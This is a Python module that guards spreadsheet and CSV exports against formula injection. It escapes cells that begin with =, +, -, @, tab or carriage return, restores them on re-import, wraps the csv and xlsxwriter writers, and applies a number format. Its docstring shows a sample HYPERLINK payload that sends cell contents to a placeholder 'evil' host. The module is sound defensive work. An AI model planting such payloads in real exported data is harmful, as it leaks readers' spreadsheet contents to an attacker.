"""Exports that cannot hurt: every text cell written to xlsx or CSV is neutralised.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and tab or carriage return can smuggle one past a leading-character check), so a region, plan
indicator or pilot named ``=HYPERLINK("http://evil/?"&A1, "点击")`` would run in the reader's
Excel or WPS (issue #8, finding 7).  Following the OWASP "CSV Injection" guidance, such a text
is written with a leading single quote, which spreadsheet programs show as text.  Numbers stay
numbers: only strings are changed, and a string that is a plain number (``"-12.5"``) is left
alone, since no program reads it as a formula.

Every xlsx writer builds its workbook with `export_workbook`, every CSV writer passes its rows
through `neutralise_row` / `csv_writer` or its frame through `neutralise_frame`.

The same workbook writes numbers by the house rule (`tanzhi.kernel.numbers`, issue #11 item 7):
a fraction written with no number format of its own is shown with the significant-digit format
of `excel_format` (the cell keeps its full value), and `ExportWorkbook.number_format` gives a
writer the share (``45.6%``) and percentage-point formats for its columns.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

import pandas as pd
import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

from tanzhi.kernel.numbers import excel_format

# OWASP CSV Injection: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?%?")


def neutralise(value: object) -> object:
    """`value` with a formula-looking string made inert; anything else unchanged.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x")'), neutralise("-5.5"), neutralise(-5.5)
    ('\\'=HYPERLINK("http://x")', '-5.5', -5.5)
    >>> neutralise("@SUM(A1)"), neutralise("碳排放")
    ("'@SUM(A1)", '碳排放')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def restore(value: object) -> object:
    """The text a neutralised cell stood for: the quote `neutralise` added is dropped on reading.

    Spreadsheet programs never store the quote typed before ``=`` in a cell's value, so a value
    starting with a quote and a formula character was written by `neutralise`; reading it back
    gives the original text (a plan workbook exported and re-imported is unchanged).

    Examples
    --------
    >>> restore(neutralise("=1+1")), restore("'abc")
    ('=1+1', "'abc")
    """
    if isinstance(value, str) and value.startswith("'") and value[1:2] and \
            value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def is_neutral(value: object) -> bool:
    """Whether a cell as written could not be read as a formula (what tests assert)."""
    return neutralise(value) == value


def neutralise_row(row: Iterable[object]) -> list[object]:
    """A CSV row with every cell passed through `neutralise`."""
    return [neutralise(cell) for cell in row]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells, column names and index labels are neutralised.

    Numeric columns are untouched, so ``to_csv`` still writes negative numbers as numbers.
    """
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out[name] = column.map(neutralise)
    out.columns = out.columns.map(neutralise) if out.columns.nlevels == 1 else out.columns
    if out.index.nlevels == 1 and out.index.dtype == object:
        out.index = out.index.map(neutralise)
    return out


def neutralise_csv(text: str) -> str:
    """CSV text (as a library wrote it) with every cell passed through `neutralise`.

    For writers that hand back finished CSV (pyam's ``to_csv``); cells are re-written with the
    same minimal quoting, and numbers, being plain-number text, are left as they were.
    """
    lines = text.splitlines(keepends=True)
    terminator = "\r\n" if lines and lines[0].endswith("\r\n") else "\n"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=terminator)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow(neutralise_row(row))
    return out.getvalue()


class _DictWriter(csv.DictWriter):
    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)

    def writeheader(self) -> Any:
        return super().writerow({f: neutralise(f) for f in self.fieldnames})


class _Writer:
    """csv.writer whose rows are neutralised (csv.writer objects cannot be subclassed)."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **options: Any) -> _Writer:
    """`csv.writer(handle, **options)` that neutralises every row it writes."""
    return _Writer(handle, **options)


def csv_dict_writer(handle: IO[str], fieldnames: list[str], **options: Any) -> csv.DictWriter:
    """`csv.DictWriter` that neutralises every value (and header) it writes."""
    return _DictWriter(handle, fieldnames=fieldnames, **options)


class SafeWorksheet(Worksheet):
    """An xlsxwriter worksheet whose string cells are neutralised as they are written, and whose
    fractions get the house number format.

    ``write``, ``write_row``, ``write_column`` and ``write_string`` all store text through
    ``_write_string``; explicit ``write_formula`` calls (the exporter's own SUMs) are kept.
    ``write``, ``write_row`` and ``write_number`` store numbers through ``_write_number``: a
    number that is not whole (a year or a count stays as Excel shows it) written with no number
    format, or with a format that has none, is given `excel_format`'s.
    """

    book: ExportWorkbook

    def _write_string(self, row: int, col: int, string: str, cell_format: Any = None) -> Any:
        return super()._write_string(row, col, str(neutralise(string)), cell_format)

    def _write_number(self, row: int, col: int, number: Any, cell_format: Any = None) -> Any:
        value = float(number)
        if math.isfinite(value) and not value.is_integer() and (
                cell_format is None or cell_format.num_format in (0, "General")):
            cell_format = self.book.number_format(value, like=cell_format)
        return super()._write_number(row, col, number, cell_format)


class ExportWorkbook(xlsxwriter.Workbook):
    """The exports' workbook: `SafeWorksheet`s, and formats that remember their properties so
    the house number format can be added to a writer's own (border, bold, colour)."""

    worksheet_class = SafeWorksheet

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        self._properties: dict[int, dict[str, Any]] = {}
        self._derived: dict[tuple[int, str], Format] = {}
        super().__init__(*args, **kwargs)

    def add_format(self, properties: dict[str, Any] | None = None) -> Format:
        made = super().add_format(properties)
        self._properties[id(made)] = dict(properties or {})
        return made

    def add_worksheet(self, name: str | None = None, worksheet_class: Any = None) -> Any:
        sheet = super().add_worksheet(name, worksheet_class)
        sheet.book = self
        return sheet

    def number_format(self, value: float | int = 0.0, kind: str = "number",
                      like: Format | None = None) -> Format:
        """The format `excel_format(value, kind)` on top of `like`'s other properties (one
        format object per combination, as Excel keeps a table of them)."""
        code = excel_format(value, kind)
        key = (id(like) if like is not None else 0, code)
        if key not in self._derived:
            base = self._properties.get(id(like), {}) if like is not None else {}
            self._derived[key] = self.add_format({**base, "num_format": code})
        return self._derived[key]


def export_workbook(target: Any, options: Mapping[str, Any] | None = None) -> ExportWorkbook:
    """`xlsxwriter.Workbook(target, options)` for exports: text never becomes a formula.

    ``strings_to_formulas`` is forced off (xlsxwriter's default turns a ``"=…"`` string into a
    live formula) and every worksheet neutralises its strings (`SafeWorksheet`).
    """
    merged = {**(options or {}), "strings_to_formulas": False}
    return ExportWorkbook(target, merged)
